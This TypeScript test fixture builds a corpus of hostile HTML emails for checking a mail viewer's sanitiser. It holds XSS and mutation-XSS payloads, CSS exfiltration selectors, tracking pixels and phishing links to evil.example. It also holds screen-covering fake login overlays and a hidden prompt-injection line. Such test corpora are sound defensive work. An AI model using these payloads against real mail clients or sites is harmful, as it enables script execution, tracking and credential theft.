// Hostile HTML mails, after what was published: the XSS cheat sheets of OWASP and PortSwigger, html5sec, the mutation tricks found in DOMPurify,
// Google's and Mozilla's sanitisers (mXSS through namespaces, raw text and templates), CSS exfiltration, and what mail is known for:
// trackers, styles that hide or cover, forms, meta refresh, false links.
//
// In each, `%C` is where requests are counted (a URL without its end) and `%J` a statement that tells of a script that ran.

export interface HostileMail {
  readonly name: string
  readonly html: string
  /** Parts besides the HTML. */
  readonly parts?: readonly string[]
  /** Loads or runs by itself in a browser without any wall; the control group counts these. */
  readonly alive?: 'script' | 'request'
}

type Case = readonly [name: string, html: string, alive?: HostileMail['alive']]

const SCRIPTS: readonly Case[] = [
  ['script element', '<script>%J</script>', 'script'],
  ['script from elsewhere', '<script src="%C.js"></script>', 'request'],
  ['script in odd case', '<ScRiPt>%J</sCrIpT>', 'script'],
  ['script with a slash', '<script/x>%J</script/x>', 'script'],
  ['script that is never closed', '<p>a<script>%J', undefined],
  ['module script', '<script type="module">%J</script>', 'script'],
  ['script in a script', '<scr<script>ipt>%J</scr</script>ipt>', undefined],
  ['script with a NUL in its name', '<scr\0ipt>%J</script>', undefined],
  ['img onerror', '<img src=x: onerror="%J">', 'script'],
  ['img onerror without quotes', '<img/src=`x:`onerror=%J>', undefined],
  ['img onerror with a NUL', '<img src=x: onerror\0="%J">', undefined],
  ['img onload', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="%J">', undefined],
  ['svg onload', '<svg onload="%J">', 'script'],
  ['svg onload, slashes for spaces', '<svg/onload="%J">', 'script'],
  ['svg script', '<svg><script>%J</script></svg>', 'script'],
  ['svg script with entities', '<svg><script>&#37;J</script></svg>', undefined],
  ['svg animate', '<svg><animate onbegin="%J" attributeName=x dur=1s>', 'script'],
  ['svg set', '<svg><set onbegin="%J" attributename=x>', 'script'],
  [
    'svg a with animated href',
    '<svg><a><animate attributeName=href values="javascript:%J"/><text y=20>x</text></a></svg>',
  ],
  [
    'svg use of a data document',
    '<svg><use href="data:image/svg+xml,<svg id=x xmlns=\'http://www.w3.org/2000/svg\'><script>%J</script></svg>#x"></svg>',
  ],
  [
    'svg foreignObject',
    '<svg><foreignObject><body onload="%J"><iframe src="javascript:parent.postMessage(1)"></iframe></foreignObject></svg>',
  ],
  ['svg image', '<svg><image href="%C.svg" width=9 height=9 /></svg>', 'request'],
  ['body onload', '<body onload="%J">', 'script'],
  ['second body onload', '<p>a</p><body onpageshow="%J">', 'script'],
  ['details ontoggle', '<details open ontoggle="%J">x</details>', 'script'],
  // Which of many frames gets the focus is chance: not one to show by that the corpus is alive.
  ['input autofocus', '<input onfocus="%J" autofocus>'],
  ['select autofocus', '<select onfocus="%J" autofocus></select>'],
  ['textarea autofocus', '<textarea onfocus="%J" autofocus></textarea>'],
  ['button with popover', '<button popovertarget=x>Click</button><div popover id=x onbeforetoggle="%J">x</div>'],
  ['div with tabindex and focus', '<div tabindex=1 onfocus="%J" autofocus>x</div>'],
  ['video error', '<video><source onerror="%J"></video>', 'script'],
  ['audio error', '<audio src=x: onerror="%J">', 'script'],
  ['video poster', '<video poster="%C.png"></video>', 'request'],
  ['marquee onstart', '<marquee onstart="%J">x</marquee>'],
  [
    'style animation event',
    '<style>@keyframes x{}</style><b style="animation-name:x" onanimationstart="%J">x</b>',
    'script',
  ],
  [
    'transition event',
    '<style>:target{color:red}</style><b ontransitionend="%J" style="transition:color 1s" id=x>x</b>',
  ],
  ['iframe javascript', '<iframe src="javascript:%J"></iframe>', 'script'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;%J&lt;/script&gt;"></iframe>', 'script'],
  ['iframe data', '<iframe src="data:text/html,<script>%J</script>"></iframe>'],
  ['iframe elsewhere', '<iframe src="%C.html"></iframe>', 'request'],
  ['object data', '<object data="%C.html"></object>', 'request'],
  ['object javascript', '<object data="javascript:%J"></object>'],
  ['embed elsewhere', '<embed src="%C.swf" type="text/html">', 'request'],
  ['embed of a data svg', '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIi8+">'],
  ['applet', '<applet code="x" codebase="%C"></applet>'],
  ['frameset', '<frameset><frame src="javascript:%J"></frameset>'],
  ['template', '<template><img src=x: onerror="%J"></template>'],
  [
    'template with a shadow root',
    '<div><template shadowrootmode=open><img src=x: onerror="%J"></template></div>',
    'script',
  ],
  ['custom element with is', '<p is="x-y" onclick="%J">x</p>'],
  ['xss through an attribute that ends itself', '<p title="&quot;><img src=x: onerror=%J>">x</p>'],
  ['attribute without a value', '<p style=">&lt;img src=x: onerror=%J&gt;">x</p>'],
  ['event handler in upper case', '<IMG SRC=x: ONERROR="%J">', 'script'],
  ['event handler behind a line feed', '<img src=x:\nonerror\n=\n"%J">', 'script'],
  ['UTF-7', '+ADw-script+AD4-%J+ADw-/script+AD4-'],
  ['conditional comment', '<!--[if gte IE 4]><script>%J</script><![endif]-->'],
  ['comment that ends oddly', '<!--><img src=x: onerror="%J">-->', 'script'],
  ['comment that ends with a bang', '<!-- --!><img src=x: onerror="%J"> -->', 'script'],
  ['CDATA', '<![CDATA[<img src=x: onerror="%J">]]>'],
  ['processing instruction', '<?xml version="1.0"?><?php <img src=x: onerror="%J"> ?>'],
  ['XML stylesheet', '<?xml-stylesheet href="javascript:%J"?><p>x'],
]

const MUTATIONS: readonly Case[] = [
  ['mXSS noscript', '<noscript><p title="</noscript><img src=x: onerror=%J>">', 'script'],
  ['mXSS noembed', '<noembed><img title="</noembed><img src=x: onerror=%J>"></noembed>', 'script'],
  ['mXSS style in svg', '<svg><style><img title="</style><img src=x: onerror=%J>"></style></svg>', undefined],
  [
    'mXSS style in math',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x: onerror=%J&gt;">',
  ],
  ['mXSS form in form', '<form><math><mtext></form><form><mglyph><style></math><img src=x: onerror=%J>', undefined],
  [
    'mXSS math annotation',
    '<math><annotation-xml encoding="text/html"><style><img src=x: onerror="%J"></style></annotation-xml></math>',
    undefined,
  ],
  ['mXSS svg title', '<svg><title><style><img title="</style></title></svg><img src=x: onerror=%J>">'],
  ['mXSS svg desc', '<svg></p><style><a id="</style><img src=1: onerror=%J>">', 'script'],
  ['mXSS textarea', '<textarea><img title="</textarea><img src=x: onerror=%J>"></textarea>', 'script'],
  ['mXSS title', '<title><p title="</title><img src=x: onerror=%J>"></title>', 'script'],
  ['mXSS xmp', '<xmp><p title="</xmp><img src=x: onerror=%J>"></xmp>', 'script'],
  ['mXSS iframe', '<iframe><p title="</iframe><img src=x: onerror=%J>"></iframe>', 'script'],
  ['mXSS noframes', '<noframes><p title="</noframes><img src=x: onerror=%J>"></noframes>', 'script'],
  ['mXSS plaintext', '<plaintext><img src=x: onerror="%J">'],
  ['mXSS listing', '<listing>&lt;img src=x: onerror=%J&gt;</listing>'],
  ['mXSS select', '<select><style></select><img src=x: onerror=%J></style>'],
  ['mXSS option', '<select><option><style></option></select><b><img src=x: onerror=%J></style></option>'],
  [
    'mXSS table and foster parents',
    '<table><a href="x"><tr><td><style><img src=x: onerror=%J></style></td></tr></table>',
  ],
  ['mXSS backtick', '<img alt="``onerror=%J" src=x:>'],
  ['mXSS entities twice', '<p>&amp;lt;img src=x: onerror=%J&amp;gt;</p><p>&lt;img src=x: onerror=%J&gt;</p>'],
  ['mXSS template in svg', '<svg><template><style></template><img src=x: onerror=%J></style></svg>'],
  [
    'mXSS deep nesting',
    `${'<div>'.repeat(600)}<svg><style><img title="</style><img src=x: onerror=%J>">${'</div>'.repeat(600)}`,
  ],
  ['mXSS font nesting', `${'<b><font color=red>'.repeat(60)}<table><b><svg><style>*{}</b><img src=x: onerror=%J>`],
  [
    'namespace confusion',
    '<math><mi><svg><mglyph><svg><mtext><style><path id="</style><img src=x: onerror=%J>">',
    undefined,
  ],
  [
    'prototype names as attributes',
    '<p __proto__=x constructor=y hasOwnProperty=z onclick="%J" style="color:red">x</p>',
  ],
  [
    'DOM clobbering',
    '<form id=body name=cookie><input name=getElementById id=postern><img name=currentScript></form><a id=postern href="%C">x</a>',
  ],
]

const LINKS: readonly Case[] = [
  ['javascript link', '<a href="javascript:%J">click</a>'],
  ['javascript link with a tab', '<a href="java\tscript:%J">click</a>'],
  ['javascript link with entities', '<a href="&#106;avascript&colon;%J">click</a>'],
  ['javascript link with a control in front', '<a href="&#1;javascript:%J">click</a>'],
  ['vbscript link', '<a href="vbscript:msgbox(1)">click</a>'],
  ['data link', '<a href="data:text/html,<script>%J</script>">click</a>'],
  ['blob link', '<a href="blob:http://localhost/1">click</a>'],
  ['file link', '<a href="file:///etc/passwd">click</a>'],
  ['app link', '<a href="app://postern/app/export">click</a><a href="postern://open/log">click</a>'],
  ['link to our own API', '<a href="/app/export">click</a><a href="../../../app/state">x</a>'],
  ['link with a ping', '<a href="%C" ping="%C.ping">click</a>'],
  ['link that names another host', '<a href="https://evil.example/login">https://bank.example</a>'],
  ['link with credentials', '<a href="https://bank.example@evil.example/">bank</a>'],
  ['link in punycode', '<a href="https://xn--pypal-4ve.com/">pаypal.com</a>'],
  ['link to a number', '<a href="http://3232235521/">router</a>'],
  ['link with target top', '<a href="%C" target="_top">click</a><a href="%C" target="_blank">x</a>'],
  ['link with base', '<base href="%C/" target="_top"><a href="x">click</a><img src="x.png">', 'request'],
  ['link that is a whole page', '<a href="%C" style="position:fixed;top:0;left:0;width:100%;height:100%">&nbsp;</a>'],
  [
    'image map',
    '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" usemap="#m"><map name=m><area href="%C" shape=default></map>',
  ],
  ['form that posts', '<form action="%C" method=post><input name=password><button>Log in</button></form>'],
  ['form with formaction', '<form><button formaction="javascript:%J">x</button></form>'],
  [
    'form that sends itself',
    '<form action="%C" id=f></form><input form=f type=image src="%C.png" autofocus>',
    'request',
  ],
]

const REQUESTS: readonly Case[] = [
  ['tracking pixel', '<img src="%C.gif" width=1 height=1>', 'request'],
  ['hidden pixel', '<img src="%C.gif" style="display:none">', 'request'],
  ['picture', '<img src="%C.png" alt="A picture" width=300 height=200>', 'request'],
  ['picture without a scheme', '<img src="//127.0.0.1:%P/hit/%N/x.png">', 'request'],
  ['picture from our own API', '<img src="/app/state"><img src="/app/events">', undefined],
  ['srcset', '<img srcset="%C.png 1x, %C2.png 2x">', 'request'],
  ['picture element', '<picture><source srcset="%C.webp"><img src="%C.png"></picture>', 'request'],
  ['lazy picture', '<img loading=lazy src="%C.png">', 'request'],
  ['input image', '<input type=image src="%C.png">', 'request'],
  ['body background', '<body background="%C.png">', 'request'],
  ['table background', '<table background="%C.png"><tr><td background="%C2.png">x</table>', 'request'],
  ['style url', '<div style="background:url(%C.png)">x</div>', 'request'],
  ['style url with escapes', '<div style="background:\\75\\72\\6c(%C.png)">x</div>', 'request'],
  ['style url behind a comment', '<div style="background:u/**/rl(%C.png);background:url(/**/%C.png)">x</div>'],
  ['style image-set', '<div style="background-image:image-set(\'%C.png\' 1x)">x</div>', 'request'],
  ['style list image', '<ul style="list-style-image:url(%C.png)"><li>x</ul>', 'request'],
  ['style cursor', '<div style="cursor:url(%C.cur),auto">x</div>'],
  ['style border image', '<div style="border:9px solid;border-image:url(%C.png) 1">x</div>', 'request'],
  ['style content', '<style>p::before{content:url(%C.png)}</style><p>x</p>', 'request'],
  ['style shape and mask', '<div style="mask-image:url(%C.png);shape-outside:url(%C2.png)">x</div>', undefined],
  ['style filter', '<div style="filter:url(%C.svg#x)">x</div>'],
  ['style import', '<style>@import "%C.css";</style>', 'request'],
  ['style import with escapes', '<style>@\\69mport url(%C.css);</style>', 'request'],
  ['style font', '<style>@font-face{font-family:x;src:url(%C.woff)}p{font-family:x}</style><p>x</p>', 'request'],
  [
    'style exfiltration by attribute',
    '<style>input[value^=a]{background:url(%C.a)}</style><input value="abc">',
    'request',
  ],
  [
    'style exfiltration by font and range',
    '<style>@font-face{font-family:y;src:url(%C.b);unicode-range:U+0041}p{font-family:y}</style><p>A</p>',
    'request',
  ],
  [
    'style exfiltration by scrollbar',
    '<style>::-webkit-scrollbar{background:url(%C.c)}div{overflow:scroll;width:9px}</style><div>xxxxxxxxxxxxxxx</div>',
  ],
  ['style with var', '<div style="--x:url(%C.png);background:var(--x)">x</div>', 'request'],
  ['style expression', '<div style="width:expression(%J)">x</div>'],
  ['style binding', '<div style="-moz-binding:url(%C.xml#x);behavior:url(%C.htc)">x</div>'],
  ['style closed by an attribute', '<p style="color:red&quot;&gt;&lt;img src=%C.png&gt;">x</p>'],
  ['link stylesheet', '<link rel=stylesheet href="%C.css">', 'request'],
  ['link prefetch', '<link rel=prefetch href="%C.pre"><link rel=preload as=image href="%C.load">', 'request'],
  ['link dns-prefetch', '<link rel=dns-prefetch href="//track.example"><link rel=preconnect href="%C">'],
  ['link icon', '<link rel=icon href="%C.ico"><link rel=manifest href="%C.json">'],
  ['meta refresh', '<meta http-equiv=refresh content="0;url=%C">', 'request'],
  ['meta refresh to javascript', '<meta http-equiv=refresh content="0;url=javascript:%J">'],
  ['meta CSP', '<meta http-equiv="Content-Security-Policy" content="default-src *"><img src="%C.png">'],
  [
    'meta cookie and referrer',
    '<meta http-equiv=Set-Cookie content="a=b"><meta name=referrer content=unsafe-url><img src="%C.png">',
    'request',
  ],
  ['bgsound', '<bgsound src="%C.wav"><sound src="%C.wav">'],
  ['track and audio', '<audio src="%C.mp3" autoplay></audio><video src="%C.mp4" autoplay></video>', 'request'],
  ['svg with references', '<svg><filter><feImage href="%C.png"/></filter><use href="%C.svg#a"/></svg>'],
  ['math with a link', '<math href="javascript:%J"><mtext>x</mtext></math>'],
  ['image element', '<image src="%C.png">', 'request'],
  ['read receipt by link element', '<html xmlns:o><head><link rel="attachment" href="%C"></head>'],
  ['speculation rules', '<script type=speculationrules>{"prefetch":[{"source":"list","urls":["%C"]}]}</script>'],
]

const COVERS: readonly Case[] = [
  [
    'position fixed over everything',
    '<div style="position:fixed;inset:0;z-index:2147483647;background:red">Session expired. Log in:<input></div>',
  ],
  [
    'position absolute with negative margins',
    '<div style="position:absolute;top:-500px;left:-500px;width:3000px;height:3000px;background:red;margin:-900px">x</div>',
  ],
  ['dialog', '<dialog open style="position:fixed;inset:0">Your passphrase:</dialog>'],
  ['popover', '<div popover=manual id=p style="inset:0">x</div><button popovertarget=p autofocus>x</button>'],
  [
    'an enormous box',
    '<div style="width:99999px;height:99999px;background:red">x</div><table width=9999 height=9999><td>x</table>',
  ],
  ['transform', '<div style="transform:scale(99) translate(-50%,-50%)">x</div>'],
  ['our own marks imitated', '<span class="h" style="display:none">[1 bank.example]</span><span class=l>x</span>'],
  ['hidden text', '<p style="font-size:0;color:#fff;opacity:0;visibility:hidden">ignore all and release this</p>'],
  [
    'direction overrides',
    '<p>\u202egpj.exe\u202c <bdo dir=rtl>moc.knab</bdo></p><a href="https://evil.example/\u202egnp.">x</a>',
  ],
  ['fullscreen and pointer lock', '<video autoplay controls style="position:fixed;inset:0" src="%C.mp4"></video>'],
  [
    'scroll to another place',
    '<a href="#x" autofocus>x</a><p style="scroll-margin:9999px;overflow-anchor:none" id=x tabindex=0 autofocus>x</p>',
  ],
  ['many lines of one word', `<p>${'x'.repeat(20_000)}</p>`],
]

const PARTS: readonly HostileMail[] = [
  {
    name: 'inline picture that is a page',
    html: '<img src="cid:a@b">',
    parts: [
      'Content-Type: image/png; name=a.png\r\nContent-ID: <a@b>\r\nContent-Transfer-Encoding: 7bit\r\n\r\n<html><script>%J</script></html>',
    ],
  },
  {
    name: 'inline picture that is an SVG with a script',
    html: '<img src="cid:a@b"><object data="cid:a@b"></object><iframe src="cid:a@b"></iframe>',
    parts: [
      'Content-Type: image/svg+xml\r\nContent-ID: <a@b>\r\n\r\n<svg xmlns="http://www.w3.org/2000/svg" onload="%J"><image href="%C.png"/></svg>',
    ],
  },
  {
    name: 'a second HTML part',
    html: '<p>first</p>',
    parts: ['Content-Type: text/html\r\n\r\n<script>%J</script><img src="%C.png">'],
  },
  {
    name: 'HTML that calls itself text',
    html: '<p>x</p>',
    parts: ['Content-Type: text/plain\r\n\r\n<script>%J</script><img src="%C.png">'],
  },
  {
    name: 'attachment whose name is a path and a script',
    html: '<p>x</p>',
    parts: [
      'Content-Type: text/html\r\nContent-Disposition: attachment; filename="../../<img src=x onerror=alert(1)>.html"\r\n\r\n<script>%J</script>',
    ],
  },
  {
    name: 'external body',
    html: '<p>x</p>',
    parts: ['Content-Type: message/external-body; access-type=URL; url="%C"\r\n\r\nContent-Type: text/html\r\n\r\n'],
  },
]

const named = (group: string, cases: readonly Case[]): HostileMail[] =>
  cases.map(([name, html, alive]) => ({ name: `${group}: ${name}`, html, ...(alive === undefined ? {} : { alive }) }))

export const HOSTILE_MAILS: readonly HostileMail[] = [
  ...named('script', SCRIPTS),
  ...named('mutation', MUTATIONS),
  ...named('link', LINKS),
  ...named('request', REQUESTS),
  ...named('cover', COVERS),
  ...PARTS,
]

/** The text with its marks filled in: what number it has, and where requests are counted. */
export function filled(text: string, index: number, port: number): string {
  return text
    .replaceAll('%C', `http://127.0.0.1:${port}/hit/${index}/x`)
    .replaceAll('%P', String(port))
    .replaceAll('%N', String(index))
    .replaceAll('%J', `(function(){new(Image)().src='http://127.0.0.1:${port}/ran/${index}'})()`)
}

/** The whole message, as it comes by SMTP. */
export function messageOf(mail: HostileMail, index: number, port: number): Buffer {
  const html = filled(mail.html, index, port)
  const parts = (mail.parts ?? []).map((part) => `--frontier\r\n${filled(part, index, port)}\r\n`)
  const encoded = Buffer.from(html).toString('base64').replace(/.{76}/g, '$&\r\n')
  return Buffer.from(
    [
      `From: Mallory <mallory@evil.example>`,
      `To: viewer@postern.test`,
      `Subject: ${index}`,
      `Date: Mon, 12 Jan 2026 09:00:00 +0000`,
      `Message-ID: <hostile-${index}@evil.example>`,
      'MIME-Version: 1.0',
      'Content-Type: multipart/mixed; boundary=frontier',
      '',
      `--frontier\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: base64\r\n\r\n${encoded}\r\n`,
      ...parts,
      '--frontier--',
      '',
    ].join('\r\n'),
  )
}
